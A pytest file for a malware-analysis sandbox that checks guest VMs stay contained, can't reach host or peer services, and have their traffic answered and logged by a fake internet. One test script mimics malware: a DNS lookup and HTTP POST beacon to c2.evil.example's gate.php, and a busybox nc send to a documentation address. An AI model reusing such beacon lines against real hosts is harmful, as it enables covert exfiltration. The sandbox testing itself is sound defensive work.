"""The guest's network: contained, answered by the fake internet, recorded host-side."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import dpkt
import pytest

from aasee.contexts.network import list_sandbox_namespaces
from aasee.images.store import GuestImage
from aasee.service.analysis import AnalysisOptions, run_analysis, vm_limit

pytestmark = pytest.mark.vm


@contextmanager
def own_host_address() -> Iterator[str]:
    """A global IPv4 address of this host that the test adds itself, on an interface of its
    own (a bridge without ports: the dummy driver is not in every kernel) in its own network
    namespace, the one the sandbox is started from; removed afterwards. The test does not
    depend on the host having such an address."""
    tag = uuid.uuid4().hex[:8]
    link = f"aht{tag}"
    address = f"192.0.2.{2 + int(tag, 16) % 250}"  # TEST-NET-1: never a real peer
    subprocess.run(["ip", "link", "add", link, "type", "bridge"], check=True, capture_output=True)
    try:
        for argv in (["addr", "add", f"{address}/32", "dev", link], ["link", "set", link, "up"]):
            subprocess.run(["ip", *argv], check=True, capture_output=True)
        shown = subprocess.run(
            ["ip", "-4", "-o", "addr", "show", "dev", link, "scope", "global"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        assert f" {address}/32 " in shown, shown
        yield address
    finally:
        subprocess.run(["ip", "link", "del", link], check=False, capture_output=True)


class _Listener:
    """A real service on the host that must never hear from the guest."""

    def __init__(self, address: str) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((address, 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.sendall(b"REAL-HOST-SERVICE\n")
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def host_ip() -> Iterator[str]:
    with own_host_address() as address:
        yield address


@pytest.fixture
def host_services(host_ip: str) -> Iterator[tuple[_Listener, _Listener]]:
    public, loopback = _Listener(host_ip), _Listener("127.0.0.1")
    yield public, loopback
    public.close()
    loopback.close()


def _tcp_destinations(pcap: Path) -> set[tuple[str, int]]:
    seen = set()
    with pcap.open("rb") as handle:
        for _ts, frame in dpkt.pcap.Reader(handle):
            ip = dpkt.ethernet.Ethernet(frame).data
            if isinstance(ip, dpkt.ip.IP) and isinstance(ip.data, dpkt.tcp.TCP):
                seen.add((socket.inet_ntoa(ip.dst), ip.data.dport))
    return seen


def test_guest_reaches_nothing_real(
    guest_image: GuestImage,
    host_ip: str,
    host_services: tuple[_Listener, _Listener],
    tmp_path: Path,
    no_leftovers: None,
) -> None:
    public, loopback = host_services
    sample = tmp_path / "probe.py"
    sample.write_text(
        "#!/usr/bin/python3\n"
        "import socket\n"
        f"for host, port in [({host_ip!r}, {public.port}), ('10.0.2.2', {loopback.port}),\n"
        f"                   ('127.0.0.1', {loopback.port}), ('10.0.2.15', {public.port})]:\n"
        "    try:\n"
        "        s = socket.create_connection((host, port), timeout=3)\n"
        "        s.sendall(b'hello')\n"
        "        data = s.recv(100)\n"
        "        print(host, port, 'ANSWER', data[:40])\n"
        "    except OSError as exc:\n"
        "        print(host, port, 'ERROR', exc)\n"
    )
    report = run_analysis(sample, tmp_path / "out", AnalysisOptions(timeout=20)).report
    stdout = report["output"]["stdout"]
    assert "REAL-HOST-SERVICE" not in stdout, stdout
    assert public.accepted == 0 and loopback.accepted == 0
    assert (host_ip, public.port) in _tcp_destinations(tmp_path / "out" / "network.pcap")
    # what reached the "host address" was the sandbox's catch-all, which recorded it
    records = [json.loads(line) for line in (tmp_path / "out" / "fakenet.jsonl").open()]
    assert any(r["service"] == "catchall_tcp" for r in records)


def _run_ended(phases: list[tuple[str, float]]) -> float:
    """When the host ended the sample's run: the first phase reported after it."""
    running = [index for index, (phase, _) in enumerate(phases) if phase == "running sample"]
    assert running and running[-1] + 1 < len(phases), phases
    return phases[running[-1] + 1][1]


def test_concurrent_guests_cannot_reach_each_other(
    guest_image: GuestImage, tmp_path: Path, no_leftovers: None
) -> None:
    assert vm_limit() >= 2, "this host runs one VM at a time (AASEE_MAX_VMS): nothing to overlap"
    listener = tmp_path / "listener.py"
    # Listens on the port for as long as its VM runs; says so, and names anyone who connects.
    listener.write_text(
        "#!/usr/bin/python3\n"
        "import socket\n"
        "s = socket.socket(); s.bind(('0.0.0.0', 7777)); s.listen(4)\n"
        "print('LISTENING', flush=True)\n"
        "while True:\n"
        "    c, a = s.accept(); print('ACCEPTED', a, flush=True); c.close()\n"
    )
    caller = tmp_path / "caller.py"
    caller.write_text(
        "#!/usr/bin/python3\n"
        "import socket\n"
        "for host in ('10.0.2.15', '10.0.2.16', '10.0.2.2'):\n"
        "    try:\n"
        "        s = socket.create_connection((host, 7777), timeout=3)\n"
        "        s.sendall(b'knock'); print(host, 'CONNECTED', flush=True)\n"
        "    except OSError as exc:\n"
        "        print(host, 'ERROR', exc, flush=True)\n"
        "print('CALLER DONE', flush=True)\n"
    )
    reports: dict[str, dict[str, Any]] = {}
    errors: dict[str, BaseException] = {}
    phases: dict[str, list[tuple[str, float]]] = {"listener": [], "caller": []}

    def run(sample: Path, options: AnalysisOptions) -> None:
        seen = phases[sample.stem]

        def progress(phase: str, _fraction: float | None) -> None:
            seen.append((phase, time.monotonic()))  # each phase and when the host saw it

        try:
            result = run_analysis(sample, tmp_path / sample.stem, options, progress=progress)
            assert result.report is not None
            reports[sample.stem] = result.report
        except BaseException as exc:  # re-raised in the test's own thread below
            errors[sample.stem] = exc

    # The listener's VM runs until its timeout; the caller starts once the listener listens,
    # and its run (stop_on_exit) must lie wholly inside the listener's.
    first = threading.Thread(target=run, args=(listener, AnalysisOptions(timeout=45)))
    first.start()
    listening = tmp_path / "listener" / "stdout.txt"
    deadline = time.monotonic() + 300
    while not (listening.is_file() and "LISTENING" in listening.read_text()):
        assert first.is_alive(), errors.get("listener") or "the listener's analysis ended early"
        assert time.monotonic() < deadline, "the listener never started listening"
        time.sleep(0.2)
    listening_since = time.monotonic()
    second = threading.Thread(
        target=run, args=(caller, AnalysisOptions(timeout=30, stop_on_exit=True))
    )
    second.start()
    for thread in (second, first):
        thread.join(400)
        assert not thread.is_alive(), "an analysis did not finish"
    for name, error in errors.items():
        raise AssertionError(f"the {name}'s analysis failed: {error!r}") from error
    assert set(reports) == {"listener", "caller"}

    # Both ran: each sample started and printed what it did.
    called = reports["caller"]["output"]["stdout"]
    assert all(f"{host} " in called for host in ("10.0.2.15", "10.0.2.16", "10.0.2.2")), called
    assert "CALLER DONE" in called, called
    heard = reports["listener"]["output"]["stdout"]
    assert "LISTENING" in heard, heard
    # They overlapped: the caller's whole run happened while the listener listened (its
    # sample runs until its VM is powered off, after the end of its run).
    caller_start = phases["caller"][0][1]
    assert listening_since <= caller_start, phases
    assert _run_ended(phases["caller"]) <= _run_ended(phases["listener"]), phases
    # And the listener never heard from it.
    assert "ACCEPTED" not in heard, heard


def test_network_objects_are_gone_after_runs(guest_image: GuestImage, tmp_path: Path) -> None:
    before = set(list_sandbox_namespaces())
    sample = tmp_path / "noop.sh"
    sample.write_text("#!/bin/sh\ntrue\n")
    run_analysis(sample, tmp_path / "out", AnalysisOptions(timeout=3))
    assert set(list_sandbox_namespaces()) <= before


PROTOCOLS_SAMPLE = """#!/bin/sh
python3 - http-client <<'PY'
import http.client, socket
print("resolved", socket.gethostbyname("c2.evil.example"))
c = http.client.HTTPConnection("c2.evil.example", 80, timeout=5)
c.request("POST", "/gate.php", body=b"id=42&os=linux", headers={"User-Agent": "EvilBot/6.6"})
print("http", c.getresponse().status)
import ssl
t = http.client.HTTPSConnection("secure.evil.example", 443, timeout=5,
                                context=ssl._create_unverified_context())
t.request("GET", "/login", headers={"User-Agent": "EvilBot/6.6"})
print("https", t.getresponse().status)
PY
echo hello-raw | busybox nc -w 2 198.51.100.23 31337
python3 - udp-client <<'PY'
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp-ping", ("203.0.113.9", 5353))
PY
"""


def test_protocols_are_answered_attributed_and_captured(
    guest_image: GuestImage, tmp_path: Path, no_leftovers: None
) -> None:
    sample = tmp_path / "talker.sh"
    sample.write_text(PROTOCOLS_SAMPLE)
    out = tmp_path / "out"
    report = run_analysis(sample, out, AnalysisOptions(timeout=20)).report
    assert "resolved 10.0.2.2" in report["output"]["stdout"]
    assert "http 200" in report["output"]["stdout"]
    procs = report["processes"]

    def pid_of(marker: str) -> int:
        return next(p["pid"] for p in procs if marker in p["argv"])

    network = report["network"]
    http_pid, udp_pid = pid_of("http-client"), pid_of("udp-client")
    nc_pid = next(p["pid"] for p in procs if p["argv"][:2] == ["busybox", "nc"])
    assert any(
        d["name"] == "c2.evil.example" and d["type"] == "A" and d["pid"] == http_pid
        for d in network["dns_traffic"]
    ), network["dns_traffic"]
    posts = [h for h in network["http"] if h["method"] == "POST"]
    assert posts and posts[0]["user_agent"] == "EvilBot/6.6" and posts[0]["pid"] == http_pid
    assert posts[0]["host"] == "c2.evil.example" and posts[0]["body_size"] == 14
    assert "https 200" in report["output"]["stdout"]
    assert any(
        t["sni"] == "secure.evil.example" and t["pid"] == http_pid for t in network["tls"]
    ), network["tls"]
    assert any(
        h["url"] == "https://secure.evil.example/login" and h["pid"] == http_pid
        for h in network["http"]
    ), network["http"]
    flows = network["flows"]
    assert any(
        f["dst_ip"] == "198.51.100.23"
        and f["dst_port"] == 31337
        and f["proto"] == "tcp"
        and f["pid"] == nc_pid
        for f in flows
    ), flows
    assert any(
        f["dst_ip"] == "203.0.113.9"
        and f["dst_port"] == 5353
        and f["proto"] == "udp"
        and f["pid"] == udp_pid
        for f in flows
    ), flows
    destinations = _tcp_destinations(out / "network.pcap")
    assert ("198.51.100.23", 31337) in destinations
    records = [json.loads(line) for line in (out / "fakenet.jsonl").open()]
    assert any(r["service"] == "http" and r.get("user_agent") == "EvilBot/6.6" for r in records)
    assert any(
        r["service"] == "catchall_tcp" and "hello-raw" in str(r.get("data", "")) for r in records
    )
